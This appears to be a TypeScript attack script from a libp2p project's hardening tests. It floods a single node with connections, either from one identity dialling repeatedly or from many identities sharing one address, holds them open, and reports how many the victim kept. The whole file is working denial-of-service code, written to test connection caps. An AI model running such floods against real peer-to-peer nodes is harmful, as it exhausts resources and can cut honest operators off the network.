// Attack script: connection floods against one node (hardening issue, class 6). Modes:
//   one-identity     one libp2p identity dials `connections` times, each a new connection (force)
//   many-identities  `identities` libp2p identities dial once each, all from `dialFrom` (one address)
// The script keeps what it got open for `holdMs` (or until killed) and reports, one JSON line each:
//   {phase: 'flooded', mode, attempted, dialled, held, ms}   once the flood is done
//   {phase: 'done', mode, held}                              when it lets go
// `dialled` counts dials that completed on our side; `held` counts connections still open a moment
// later (the victim closes the ones its caps refuse after the handshake).
import type { Libp2p } from '@libp2p/interface';
import { multiaddr } from '@multiformats/multiaddr';
import { attackArgs, createAttackerHost, report } from './attacker-host.ts';

interface Args {
  /** The victim's multiaddr, with /p2p/<id>. */
  readonly address: string;
  readonly mode: 'one-identity' | 'many-identities';
  /** one-identity: connections to open. */
  readonly connections?: number;
  /** many-identities: identities, one connection each. */
  readonly identities?: number;
  /** The local address to dial from (127.0.0.2 is another address of this machine). */
  readonly dialFrom?: string;
  /** How long to hold the connections before reporting 'done' and exiting (default: until killed). */
  readonly holdMs?: number;
}

const args = attackArgs<Args>();
const target = multiaddr(args.address);
const started = Date.now();
const hosts: Libp2p[] = [];

async function newHost(): Promise<Libp2p> {
  const h = await createAttackerHost({
    listen: false,
    ...(args.dialFrom ? { dialFrom: args.dialFrom } : {}),
  });
  hosts.push(h);
  return h;
}

async function dial(h: Libp2p, force: boolean): Promise<boolean> {
  try {
    await h.dial(target, { force, signal: AbortSignal.timeout(10_000) });
    return true;
  } catch {
    return false;
  }
}

const held = () =>
  hosts.reduce((n, h) => n + h.getConnections().filter((c) => c.status === 'open').length, 0);

let attempted = 0;
let dialled = 0;
if (args.mode === 'one-identity') {
  const h = await newHost();
  // One after the other: concurrent dials of one peer are merged into one by libp2p.
  for (let i = 0; i < (args.connections ?? 40); i++) {
    attempted++;
    if (await dial(h, true)) dialled++;
  }
} else {
  const n = args.identities ?? 60;
  const hostsReady = await Promise.all(Array.from({ length: n }, () => newHost()));
  // A few at a time, as the victim's per-host rate and handshake limits would see a real flood.
  for (let i = 0; i < hostsReady.length; i += 8) {
    const batch = hostsReady.slice(i, i + 8);
    attempted += batch.length;
    dialled += (await Promise.all(batch.map((h) => dial(h, false)))).filter(Boolean).length;
  }
}
await new Promise((r) => setTimeout(r, 1_000));
report({ phase: 'flooded', mode: args.mode, attempted, dialled, held: held(), ms: Date.now() - started });

if (args.holdMs !== undefined) {
  await new Promise((r) => setTimeout(r, args.holdMs));
  report({ phase: 'done', mode: args.mode, held: held() });
  await Promise.allSettled(hosts.map((h) => h.stop()));
  process.exit(0);
}
